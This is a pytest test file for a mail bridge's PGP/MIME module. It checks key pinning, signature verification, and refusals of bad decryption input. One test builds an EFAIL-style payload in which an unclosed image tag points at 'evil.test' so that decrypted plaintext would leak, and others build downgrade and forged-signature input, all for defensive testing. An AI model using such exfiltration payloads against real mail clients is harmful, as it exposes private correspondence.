"""crypto.pgp against the real gpg binary: a user's own GnuPG home plays the mail client (keys,
`gpg --detach-sign`, `gpg --encrypt`), a TenantKeyring in another temporary home plays the
bridge.  HOME is a temporary directory, so nothing here can touch ~/.gnupg."""

from __future__ import annotations

import os
import re
import shutil
import stat
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator

import pytest

from bridge.crypto.pgp import PgpKeyError, PgpRefused, TenantKeyring
from bridge.errors import NotFound

GPG = shutil.which("gpg")
pytestmark = pytest.mark.skipif(GPG is None, reason="the gpg binary is not installed")

ANNA, BOB, MALLORY = "anna@borger.dp2.test", "bob@borger.dp2.test", "mallory@evil.test"
BRIDGE = "receipts@borger.dp2.test"
ENTITY = (b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
          b"Hej kommune,\r\nmed venlig hilsen\r\nAnna \xc3\x86\xc3\x98\xc3\x85\r\n")
OUTER = (b"From: Anna <anna@borger.dp2.test>\r\nTo: post@kommune.dp2.test\r\n"
         b"Subject: test\r\nMessage-ID: <1@borger.dp2.test>\r\nMIME-Version: 1.0\r\n")


@dataclass
class User:
    """A person's gpg: their own GnuPG home."""

    home: Path

    def gpg(self, *args: str, data: bytes = b"", check: bool = True) -> subprocess.CompletedProcess:
        r = subprocess.run([GPG, "--homedir", str(self.home), "--batch", "--no-tty", "--pinentry-mode",
                            "loopback", "--passphrase", "", "--status-fd", "2", *args],
                           input=data, capture_output=True, timeout=30)
        assert not check or r.returncode == 0, r.stderr.decode(errors="replace")
        return r

    def make_key(self, address: str, *extra: str, name: str = "Test") -> str:
        """A new ed25519 key with a cv25519 encryption subkey (valid one day when `extra` fakes
        the time); its fingerprint."""
        r = self.gpg(*extra, "--quick-gen-key", f"{name} <{address}>", "future-default", "default",
                     "1d" if extra else "never")
        return re.search(rb"KEY_CREATED [BP] ([0-9A-F]+)", r.stderr).group(1).decode()



@dataclass
class World:
    user: User
    anna: str
    bob: str
    mallory: str
    old: str                      # anna's second key, made in 2020 and expired since
    tmp: Path


def _kill_agent(home: Path) -> None:
    subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"], capture_output=True,
                   timeout=30)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("pgp")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOME", str(tmp))
        mp.delenv("GNUPGHOME", raising=False)
        home = tmp / "u"
        home.mkdir(mode=0o700)
        user = User(home)
        try:
            yield World(user, user.make_key(ANNA), user.make_key(BOB), user.make_key(MALLORY),
                        user.make_key(ANNA, "--faked-system-time", "20200101T000000!", name="Old"),
                        tmp)
        finally:
            _kill_agent(home)


@pytest.fixture
def ring(world: World, tmp_path: Path) -> Iterator[TenantKeyring]:
    ring = TenantKeyring(tmp_path / "gnupg" / "borger")
    try:
        yield ring
    finally:
        _kill_agent(ring.home)


def export_one(world: World, fpr: str) -> bytes:
    return world.user.gpg("--armor", "--export", fpr).stdout


def signed_message(world: World, address: str, entity: bytes = ENTITY, *, key: str | None = None) -> bytes:
    """A PGP/MIME message From `address`, signed by `key` (default: that address's own key)."""
    key = key or {ANNA: world.anna, BOB: world.bob}[address]
    sig = world.user.gpg("--local-user", key + "!", "--armor", "--detach-sign", data=entity).stdout
    sig = sig.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    b = b"sig-boundary-42"
    return (OUTER.replace(b"anna@borger.dp2.test", address.encode())
            + b'Content-Type: multipart/signed; micalg=pgp-sha256;\r\n'
            b' protocol="application/pgp-signature"; boundary="' + b + b'"\r\n\r\n'
            b"This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\r\n"
            b"--" + b + b"\r\n" + entity + b"\r\n--" + b + b"\r\n"
            b'Content-Type: application/pgp-signature; name="signature.asc"\r\n\r\n'
            + sig + b"\r\n--" + b + b"--\r\n")


def encrypted_body(ciphertext: bytes, b: bytes = b"enc-boundary-7") -> bytes:
    return (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";\r\n'
            b' boundary="' + b + b'"\r\n\r\n'
            b"--" + b + b"\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
            b"--" + b + b"\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n"
            + ciphertext.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
            + b"\r\n--" + b + b"--\r\n")


def encrypt_to(world: World, fpr: str, data: bytes, *extra: str) -> bytes:
    return world.user.gpg("--trust-model", "always", "--armor", *extra, "--encrypt", "--recipient",
                          fpr, data=data).stdout


def bridge_key_in_user(world: World, ring: TenantKeyring) -> str:
    fpr = ring.ensure_bridge_key(BRIDGE)
    world.user.gpg("--import", data=ring.export_bridge_key().encode())
    return fpr


# --- keyring and pins ---------------------------------------------------------------------------

def test_import_pins_the_key_in_private_files(world: World, ring: TenantKeyring) -> None:
    assert ring.import_key(ANNA, export_one(world, world.anna)) == world.anna
    assert stat.S_IMODE(ring.home.stat().st_mode) == 0o700
    pins = ring.home / "pins.json"
    assert stat.S_IMODE(pins.stat().st_mode) == 0o600
    assert ring.pins() == {ANNA: [world.anna]}
    [row] = ring.keys(ANNA)
    assert row["fingerprint"] == world.anna and row["status"] == "valid"
    assert any(ANNA in uid for uid in row["uids"])
    assert ring.keys(BOB) == []
    assert not (world.tmp / ".gnupg").exists()


def test_import_refuses_a_key_of_another_address(world: World, ring: TenantKeyring) -> None:
    with pytest.raises(PgpKeyError, match="no user id with the address anna@borger.dp2.test"):
        ring.import_key(ANNA, export_one(world, world.bob))
    assert ring.pins() == {} and ring.gpg.list_keys() == []


def test_import_refuses_secret_keys_and_garbage(world: World, ring: TenantKeyring) -> None:
    for armor in ("--armor", "--no-armor"):
        secret = world.user.gpg(armor, "--export-secret-keys", world.anna).stdout
        with pytest.raises(PgpKeyError, match="secret"):
            ring.import_key(ANNA, secret)
    with pytest.raises(PgpKeyError, match="exactly one"):
        ring.import_key(ANNA, b"not a key\n")
    with pytest.raises(PgpKeyError, match="exactly one"):
        ring.import_key(ANNA, export_one(world, world.anna) + export_one(world, world.bob))
    assert ring.pins() == {} and ring.gpg.list_keys(secret=True) == []


def test_remove_unpins_and_deletes_an_unused_key(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.anna))
    with pytest.raises(NotFound):
        ring.remove(BOB, world.anna)
    ring.remove(ANNA, world.anna.lower())
    assert ring.pins() == {} and ring.keys() == []
    assert ring.gpg.list_keys() == []


# --- verification -----------------------------------------------------------------------------

def test_good_signature_of_a_pinned_key_passes(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.anna))
    r = ring.verify_pgp_mime(signed_message(world, ANNA), "Anna@Borger.dp2.test")
    assert (r.method, r.status, r.signer, r.reason) == ("pgp", "pass", ANNA, None)
    assert r.header_part() == f"pgp=pass header.s={ANNA}"


def test_one_changed_byte_fails(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.anna))
    raw = signed_message(world, ANNA).replace(b"Hej kommune", b"Hej Kommune")
    r = ring.verify_pgp_mime(raw, ANNA)
    assert r.status == "fail" and "bad signature" in r.reason


def test_key_of_another_login_or_not_imported_fails(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.anna))
    ring.import_key(BOB, export_one(world, world.bob))
    r = ring.verify_pgp_mime(signed_message(world, ANNA, key=world.bob), ANNA)
    assert r.status == "fail" and "another address" in r.reason
    r = ring.verify_pgp_mime(signed_message(world, ANNA, key=world.mallory), ANNA)
    assert r.status == "fail" and r.reason.startswith("unknown key")
    r = ring.verify_pgp_mime(signed_message(world, BOB), ANNA)     # bob's own, From is anna
    assert r.status == "fail"


def test_expired_and_revoked_keys_fail(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.old))
    # signed in 2020 while the key was valid; now it has expired
    raw = signed_message_at(world, world.old, "20200101T010000!")
    r = ring.verify_pgp_mime(raw, ANNA)
    assert r.status == "fail" and "expired" in r.reason, r

    user = User(world.tmp / "revoker")
    shutil.copytree(world.user.home, user.home, ignore=shutil.ignore_patterns("S.*"))
    try:
        ring.import_key(ANNA, export_one(world, world.anna))
        raw = signed_message(world, ANNA, key=world.anna)
        assert ring.verify_pgp_mime(raw, ANNA).status == "pass"
        rev = (user.home / "openpgp-revocs.d" / f"{world.anna}.rev").read_bytes()
        user.gpg("--import", data=rev.replace(b":-----BEGIN", b"-----BEGIN"))
        assert ring.import_key(ANNA, user.gpg("--armor", "--export", world.anna).stdout) == world.anna
        r = ring.verify_pgp_mime(raw, ANNA)
        assert r.status == "fail" and "revoked" in r.reason
        assert {row["fingerprint"]: row["status"] for row in ring.keys(ANNA)}[world.anna] == "revoked"
    finally:
        _kill_agent(user.home)


def signed_message_at(world: World, fpr: str, when: str) -> bytes:
    sig = world.user.gpg("--faked-system-time", when, "--local-user", fpr + "!", "--armor",
                         "--detach-sign", data=ENTITY).stdout
    return _assemble_signed(ENTITY, sig)


def _assemble_signed(entity: bytes, sig: bytes) -> bytes:
    b = b"b1"
    return (OUTER + b'Content-Type: multipart/signed; protocol="application/pgp-signature";'
            b' micalg=pgp-sha256; boundary="' + b + b'"\r\n\r\n--' + b + b"\r\n" + entity
            + b"\r\n--" + b + b"\r\nContent-Type: application/pgp-signature\r\n\r\n"
            + sig.replace(b"\n", b"\r\n") + b"\r\n--" + b + b"--\r\n")


def test_a_non_detached_signature_in_the_signature_part_fails(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.anna))
    for how in ("--sign", "--clearsign"):
        other = world.user.gpg("--local-user", world.anna + "!", "--armor", how, data=b"other\r\n").stdout
        r = ring.verify_pgp_mime(_assemble_signed(ENTITY, other), ANNA)
        assert r.status == "fail", how


def test_not_pgp_mime_is_none_without_running_gpg(tmp_path: Path) -> None:
    ring = TenantKeyring(tmp_path / "k")
    plain = OUTER + b"Content-Type: text/plain\r\n\r\nhej\r\n"
    smime = OUTER + (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; '
                     b'boundary="x"\r\n\r\n--x\r\n\r\nhej\r\n--x--\r\n')
    assert ring.verify_pgp_mime(plain, ANNA) is None
    assert ring.verify_pgp_mime(smime, ANNA) is None
    assert ring.decrypt_pgp_mime(plain) is None
    assert ring._gpg is None                       # no gpg process was started


def test_malformed_signed_message_fails(world: World, ring: TenantKeyring) -> None:
    raw = signed_message(world, ANNA)
    cut = raw[:raw.rindex(b"--sig-boundary-42--")]
    assert ring.verify_pgp_mime(cut, ANNA).status == "fail"
    assert ring._gpg is None


# --- decryption ---------------------------------------------------------------------------------

def test_decrypt_returns_the_exact_entity(world: World, ring: TenantKeyring) -> None:
    fpr = bridge_key_in_user(world, ring)
    assert ring.ensure_bridge_key(BRIDGE) == fpr                    # made once
    raw = OUTER + encrypted_body(encrypt_to(world, fpr, ENTITY))
    out = ring.decrypt_pgp_mime(raw)
    assert out == OUTER + ENTITY


def test_decrypted_header_fields_other_than_content_are_dropped(world: World, ring: TenantKeyring) -> None:
    fpr = bridge_key_in_user(world, ring)
    for entity, expected in (
            (b"From: mallory@evil.test\r\nSubject: real\r\n" + ENTITY, ENTITY),   # protected headers
            (b"\r\nno header\r\n\r\nsecond paragraph\r\n", b"\r\nno header\r\n\r\nsecond paragraph\r\n"),
            (b"bare text\r\n\r\nmore\r\n", b"\r\nbare text\r\n\r\nmore\r\n")):
        out = ring.decrypt_pgp_mime(OUTER + encrypted_body(encrypt_to(world, fpr, entity)))
        assert out == OUTER + expected


def test_no_mdc_is_refused_without_plaintext(world: World, ring: TenantKeyring) -> None:
    fpr = bridge_key_in_user(world, ring)
    ct = encrypt_to(world, fpr, ENTITY, "--rfc2440", "--cipher-algo", "CAST5")
    packets = world.user.gpg("--list-packets", data=ct, check=False).stdout
    assert b"mdc_method" not in packets and b":encrypted data packet:" in packets   # tag 9, no MDC
    with pytest.raises(PgpRefused) as exc:
        ring.decrypt_pgp_mime(OUTER + encrypted_body(ct))
    e = exc.value
    assert e.enhanced == "5.6.5" and not e.temporary
    assert "integrity protection" in e.public and "integritetsbeskyttelse" in e.public_da
    assert b"kommune" not in (str(e) + e.public).encode()


def test_a_plaintext_above_the_limit_is_refused(world: World, ring: TenantKeyring) -> None:
    fpr = bridge_key_in_user(world, ring)
    big = b"Content-Type: text/plain\r\n\r\n" + b"A" * 300_000          # compresses to ~1 KB
    raw = OUTER + encrypted_body(encrypt_to(world, fpr, big))
    with pytest.raises(PgpRefused) as exc:
        ring.decrypt_pgp_mime(raw, max_size=100_000)
    assert exc.value.enhanced == "5.3.4" and "size limit" in exc.value.public
    assert ring.decrypt_pgp_mime(raw, max_size=400_000) == OUTER + big


def test_efail_encrypted_part_inside_a_mixed_message_is_refused(world: World, ring: TenantKeyring) -> None:
    fpr = bridge_key_in_user(world, ring)
    enc = encrypted_body(encrypt_to(world, fpr, ENTITY))
    raw = (OUTER + b'Content-Type: multipart/mixed; boundary="evil"\r\n\r\n'
           b'--evil\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n'
           b"--evil\r\n" + enc + b'--evil\r\nContent-Type: text/html\r\n\r\n">\r\n--evil--\r\n')
    with pytest.raises(PgpRefused) as exc:
        ring.decrypt_pgp_mime(raw)
    assert "whole message body" in exc.value.public


def test_three_parts_or_wrong_key_are_refused(world: World, ring: TenantKeyring) -> None:
    fpr = bridge_key_in_user(world, ring)
    body = encrypted_body(encrypt_to(world, fpr, ENTITY))
    extra = body.replace(b"--enc-boundary-7--", b"--enc-boundary-7\r\nContent-Type: text/html\r\n\r\n"
                                                 b"<b>x</b>\r\n--enc-boundary-7--")
    with pytest.raises(PgpRefused, match="two parts"):
        ring.decrypt_pgp_mime(OUTER + extra)
    with pytest.raises(PgpRefused) as exc:
        ring.decrypt_pgp_mime(OUTER + encrypted_body(encrypt_to(world, world.anna, ENTITY)))
    assert exc.value.enhanced == "5.7.5" and "not encrypted to this bridge" in exc.value.public


# --- encryption ---------------------------------------------------------------------------------

def test_encrypt_pgp_mime_decrypts_with_the_users_gpg(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.anna))
    raw = OUTER + ENTITY
    out = ring.encrypt_pgp_mime(raw, [world.anna])
    head, _, body = out.partition(b"\r\n\r\n")
    assert head.startswith(OUTER) and b'protocol="application/pgp-encrypted"' in head
    assert b"kommune," not in out and b"\n" not in out.replace(b"\r\n", b"")
    assert b"Version: 1" in body and b'filename="encrypted.asc"' in body
    armored = body[body.index(b"-----BEGIN PGP MESSAGE"):body.index(b"-----END PGP MESSAGE-----") + 25]
    r = world.user.gpg("--decrypt", data=armored)
    assert r.stdout == ENTITY
    assert b"[GNUPG:] GOODMDC" in r.stderr


def test_encrypt_refuses_unpinned_recipients(world: World, ring: TenantKeyring) -> None:
    ring.import_key(ANNA, export_one(world, world.anna))
    with pytest.raises(PgpRefused):
        ring.encrypt_pgp_mime(OUTER + ENTITY, [world.bob])
    with pytest.raises(PgpRefused):
        ring.encrypt_pgp_mime(OUTER + ENTITY, [])


def test_the_users_gnupg_home_is_never_used(world: World, tmp_path: Path) -> None:
    assert os.environ["HOME"] == str(world.tmp)
    with pytest.raises(ValueError):
        TenantKeyring(Path(os.environ["HOME"]) / ".gnupg")
